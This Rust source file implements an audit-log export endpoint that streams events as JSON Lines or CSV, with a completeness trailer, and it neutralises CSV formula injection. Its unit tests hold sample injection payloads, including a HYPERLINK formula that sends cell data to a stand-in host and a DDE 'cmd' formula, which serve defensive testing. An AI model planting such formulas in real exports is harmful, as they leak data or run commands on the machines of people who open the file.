//! `GET /v1/audit/export`: every event a filter selects, as JSON Lines or CSV, streamed a page
//! at a time (keyset pagination, constant memory whatever the size). The export is audited
//! before its first byte, and it holds the log as it stood then: the events before its own
//! `audit_queried` record.
//!
//! The status line is sent before the events are read, so a failure midway can only cut the
//! body short. A complete export therefore ends with a trailer saying so and how many events it
//! holds (`{"complete":true,"n_events":N}`, or a CSV row `#complete,N`); a download without it
//! was cut short. CSV cells that a spreadsheet would take for a formula get a `'` in front.

use std::sync::Arc;

use axum::body::Body;
use axum::extract::RawQuery;
use axum::response::{IntoResponse, Response};
use bytes::Bytes;
use chrono::SecondsFormat;
use futures_util::{Stream, StreamExt, TryStreamExt};
use http::header::{CONTENT_DISPOSITION, CONTENT_TYPE};
use serde::Serialize;
use tower::BoxError;

use super::{Inquiry, parse_query};
use crate::app::App;
use crate::audit::{Filter, Record};
use crate::error::Error;
use crate::model::WireName;

/// Events read from the store at a time.
const PAGE: u32 = Filter::MAX_LIMIT;

/// The columns of the CSV export, in order.
pub const CSV_COLUMNS: [&str; 19] = [
    "position",
    "id",
    "time",
    "actor",
    "action",
    "platform",
    "bank",
    "consent",
    "user_ref",
    "purpose",
    "policy_hash",
    "categories",
    "fields",
    "n_records",
    "decision",
    "reason",
    "request_id",
    "prev_hash",
    "hash",
];

/// The first cell of the CSV trailer (no position looks like it).
pub const CSV_COMPLETE: &str = "#complete";

/// How an export is written.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, strum::EnumString)]
#[serde(rename_all = "snake_case")]
#[strum(serialize_all = "snake_case")]
enum Format {
    /// One record per line, exactly as `/v1/audit/events` serialises it.
    Jsonl,
    /// RFC 4180: a header row, then one row per event; lists joined with `;`.
    Csv,
}

impl Format {
    fn content_type(self) -> &'static str {
        match self {
            Format::Jsonl => "application/x-ndjson",
            Format::Csv => "text/csv; charset=utf-8",
        }
    }

    fn content_disposition(self) -> &'static str {
        match self {
            Format::Jsonl => "attachment; filename=\"audit-export.jsonl\"",
            Format::Csv => "attachment; filename=\"audit-export.csv\"",
        }
    }

    /// What comes before the first record.
    fn header(self) -> Option<Bytes> {
        match self {
            Format::Jsonl => None,
            Format::Csv => {
                let mut line = CSV_COLUMNS.join(",");
                line.push_str("\r\n");
                Some(Bytes::from(line))
            }
        }
    }

    /// The last line of a complete export of `n_events` events.
    fn trailer(self, n_events: u64) -> Bytes {
        match self {
            Format::Jsonl => {
                let mut line =
                    serde_json::json!({"complete": true, "n_events": n_events}).to_string();
                line.push('\n');
                Bytes::from(line)
            }
            Format::Csv => {
                // As many cells as the header, so that the file stays rectangular.
                let mut row = format!("{CSV_COMPLETE},{n_events}");
                row.push_str(&",".repeat(CSV_COLUMNS.len() - 2));
                row.push_str("\r\n");
                Bytes::from(row)
            }
        }
    }

    /// A page of records, written out.
    fn write(self, records: &[Record]) -> Result<Bytes, serde_json::Error> {
        let mut out = Vec::with_capacity(records.len() * 640);
        for record in records {
            match self {
                Format::Jsonl => {
                    serde_json::to_writer(&mut out, record)?;
                    out.push(b'\n');
                }
                Format::Csv => csv_row(&mut out, record),
            }
        }
        Ok(Bytes::from(out))
    }
}

/// What the `audit_queried` record of an export says was asked.
#[derive(Serialize)]
struct Asked {
    format: Format,
    #[serde(flatten)]
    filter: Filter,
}

/// `GET /v1/audit/export?format=jsonl|csv` with the filters of `/v1/audit/events` (but no
/// `limit`; `format` defaults to `jsonl`).
pub(super) async fn export(inquiry: Inquiry, RawQuery(query): RawQuery) -> Result<Response, Error> {
    let (format, filter) = parse(query.as_deref().unwrap_or_default())?;
    let app = inquiry.app.clone();
    let asked = Asked {
        format,
        filter: app.auditor.pseudonymise_filter(&filter).await?,
    };
    let own = inquiry.audited("export", asked, 0).await?;
    let body = futures_util::stream::iter(format.header().map(Ok))
        .chain(written(format, pages(app, filter, own.position)))
        .inspect_err(|error| {
            tracing::error!(%error, "the audit export failed midway; its body is cut short");
        });
    Ok((
        [
            (CONTENT_TYPE, format.content_type()),
            (CONTENT_DISPOSITION, format.content_disposition()),
        ],
        Body::from_stream(body),
    )
        .into_response())
}

/// The format and the filter of an export's query string. `limit` is refused: an export holds
/// everything the filter selects.
fn parse(query: &str) -> Result<(Format, Filter), Error> {
    let pairs: Vec<(String, String)> = parse_query(Some(query))?;
    let mut format = Format::Jsonl;
    let mut rest = Vec::with_capacity(pairs.len());
    for (name, value) in pairs {
        match name.as_str() {
            "format" => {
                format = value.parse::<Format>().map_err(|_| {
                    Error::InvalidRequest(format!(
                        "unknown export format {value:?}: use jsonl or csv"
                    ))
                })?;
            }
            "limit" => {
                return Err(Error::InvalidRequest(
                    "an export takes no limit: it holds every event the filters select".into(),
                ));
            }
            _ => rest.push((name, value)),
        }
    }
    let rest = serde_urlencoded::to_string(&rest)
        .map_err(|error| Error::InvalidRequest(error.to_string()))?;
    Ok((format, parse_query(Some(&rest))?))
}

/// Where the export has got to.
struct Cursor {
    app: Arc<App>,
    /// The caller's filter, its `after` moved past each page.
    filter: Filter,
    /// Stop before this position (the export's own record).
    before: i64,
    done: bool,
}

/// The matching events before position `before`, a page at a time, read as the consumer asks
/// for them (so at most one page is held).
fn pages(
    app: Arc<App>,
    filter: Filter,
    before: i64,
) -> impl Stream<Item = Result<Vec<Record>, BoxError>> + Send + 'static {
    let cursor = Cursor {
        app,
        filter,
        before,
        done: false,
    };
    futures_util::stream::try_unfold(cursor, |mut cursor| async move {
        if cursor.done {
            return Ok(None);
        }
        let mut page = cursor
            .app
            .auditor
            .events(&Filter {
                limit: Some(PAGE),
                ..cursor.filter.clone()
            })
            .await?;
        cursor.done = page.len() < PAGE as usize;
        if let Some(end) = page
            .iter()
            .position(|record| record.position >= cursor.before)
        {
            page.truncate(end);
            cursor.done = true;
        }
        match page.last() {
            Some(last) => cursor.filter.after = Some(last.position),
            None => return Ok(None),
        }
        Ok::<_, BoxError>(Some((page, cursor)))
    })
}

/// The pages written out in `format`, then the trailer; an error ends the stream at once, so
/// a failed export never has a trailer.
fn written(
    format: Format,
    pages: impl Stream<Item = Result<Vec<Record>, BoxError>> + Send + 'static,
) -> impl Stream<Item = Result<Bytes, BoxError>> + Send + 'static {
    let pages = Box::pin(pages);
    futures_util::stream::try_unfold(
        (pages, 0u64, false),
        move |(mut pages, n_events, ended)| async move {
            if ended {
                return Ok(None);
            }
            Ok(Some(match pages.try_next().await? {
                Some(records) => {
                    let bytes = format.write(&records)?;
                    (bytes, (pages, n_events + records.len() as u64, false))
                }
                None => (format.trailer(n_events), (pages, n_events, true)),
            }))
        },
    )
}

/// Appends one CSV row (CRLF-terminated) for `record`, in the order of [`CSV_COLUMNS`].
fn csv_row(out: &mut Vec<u8>, record: &Record) {
    let event = &record.event;
    let optional = |value: &Option<String>| value.clone().unwrap_or_default();
    let fields: [String; 19] = [
        record.position.to_string(),
        event.id.clone(),
        event.time.to_rfc3339_opts(SecondsFormat::AutoSi, true),
        event.actor.clone(),
        event.action.as_str().to_owned(),
        optional(&event.platform),
        optional(&event.bank),
        optional(&event.consent),
        optional(&event.user_ref),
        optional(&event.purpose),
        optional(&event.policy_hash),
        event.categories.join(";"),
        event.fields.join(";"),
        event.n_records.to_string(),
        event.decision.as_str().to_owned(),
        optional(&event.reason),
        optional(&event.request_id),
        hex::encode(record.prev_hash),
        hex::encode(record.hash),
    ];
    for (i, field) in fields.iter().enumerate() {
        if i > 0 {
            out.push(b',');
        }
        push_csv_field(out, field);
    }
    out.extend_from_slice(b"\r\n");
}

/// The first characters that get a `'` in front: what a spreadsheet takes for the start of a
/// formula (OWASP, CSV injection: `=`, `+`, `-`, `@`, tab, CR), and `'` itself, so that
/// dropping one leading `'` always gives the value back.
pub const CSV_ESCAPED_STARTS: [char; 7] = ['=', '+', '-', '@', '\t', '\r', '\''];

/// Appends `field` as RFC 4180 says: in double quotes (doubled inside) when it holds a comma,
/// a double quote, CR or LF; as it is otherwise. A field that starts with one of
/// [`CSV_ESCAPED_STARTS`] gets a `'` in front, so that a spreadsheet shows it as the text it
/// is instead of evaluating it (and shows `'…` as `'…`).
fn push_csv_field(out: &mut Vec<u8>, field: &str) {
    let neutralised;
    let field = if field.starts_with(CSV_ESCAPED_STARTS) {
        neutralised = format!("'{field}");
        neutralised.as_str()
    } else {
        field
    };
    if field.contains([',', '"', '\r', '\n']) {
        out.push(b'"');
        out.extend_from_slice(field.replace('"', "\"\"").as_bytes());
        out.push(b'"');
    } else {
        out.extend_from_slice(field.as_bytes());
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[track_caller]
    fn check(field: &str, expected: &str) {
        let mut out = Vec::new();
        push_csv_field(&mut out, field);
        assert_eq!(String::from_utf8(out).unwrap(), expected);
    }

    #[test]
    fn csv_fields_are_quoted_only_when_they_must_be() {
        check("", "");
        check("plain", "plain");
        check("a,b", "\"a,b\"");
        check("say \"hi\"", "\"say \"\"hi\"\"\"");
        check("two\nlines", "\"two\nlines\"");
        check("cr\r", "\"cr\r\"");
        check("a;b", "a;b");
    }

    #[test]
    fn csv_fields_a_spreadsheet_would_evaluate_are_neutralised() {
        check(
            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
            "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\"",
        );
        check("=1+2", "'=1+2");
        check("+1", "'+1");
        check("-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0");
        check("@SUM(A1:A2)", "'@SUM(A1:A2)");
        check("\tx", "'\tx");
        check("\rx", "\"'\rx\"");
        // Only the first character counts; a leading `'` is doubled, so one can be dropped.
        check("a=1", "a=1");
        check(" =1", " =1");
        check("'=1", "''=1");
        check("'", "''");
    }

    #[test]
    fn a_complete_export_ends_with_its_trailer() {
        assert_eq!(
            Format::Jsonl.trailer(3),
            Bytes::from("{\"complete\":true,\"n_events\":3}\n")
        );
        let row = Format::Csv.trailer(12);
        assert_eq!(row, Bytes::from("#complete,12,,,,,,,,,,,,,,,,,\r\n"));
        assert_eq!(
            std::str::from_utf8(&row)
                .unwrap()
                .trim_end()
                .split(',')
                .count(),
            CSV_COLUMNS.len()
        );
    }

    #[tokio::test]
    async fn a_failed_page_ends_the_export_without_its_trailer() {
        let page = |n: i64| -> Result<Vec<Record>, BoxError> {
            Ok(crate::audit::link(
                n,
                crate::audit::GENESIS,
                vec![crate::audit::Event::new(
                    crate::audit::Action::AuditQueried,
                    "x",
                    crate::audit::Decision::Allow,
                )],
            ))
        };
        let whole: Vec<Bytes> = written(
            Format::Jsonl,
            futures_util::stream::iter([page(0), page(1)]),
        )
        .try_collect()
        .await
        .unwrap();
        assert_eq!(whole.len(), 3);
        assert_eq!(whole[2], Format::Jsonl.trailer(2));

        let failing = futures_util::stream::iter([page(0), Err("page 2 failed".into()), page(2)]);
        let parts: Vec<Result<Bytes, BoxError>> = written(Format::Csv, failing).collect().await;
        assert_eq!(parts.len(), 2, "one page, then the error, then nothing");
        assert!(parts[0].is_ok() && parts[1].is_err());
    }

    #[test]
    fn export_queries_take_a_format_and_the_filters_but_no_limit() {
        let (format, filter) = parse("format=csv&platform=p&after=7").unwrap();
        assert_eq!(format, Format::Csv);
        assert_eq!(filter.platform.as_deref(), Some("p"));
        assert_eq!(filter.after, Some(7));
        assert_eq!(parse("").unwrap(), (Format::Jsonl, Filter::default()));
        for bad in [
            "format=xml",
            "limit=5",
            "colour=red",
            "decision=maybe",
            "platform=%00",
            "bank=a%00b",
            "consent=%00",
            "purpose=%00",
            "user_ref=%00",
        ] {
            assert!(matches!(parse(bad), Err(Error::InvalidRequest(_))), "{bad}");
        }
    }
}
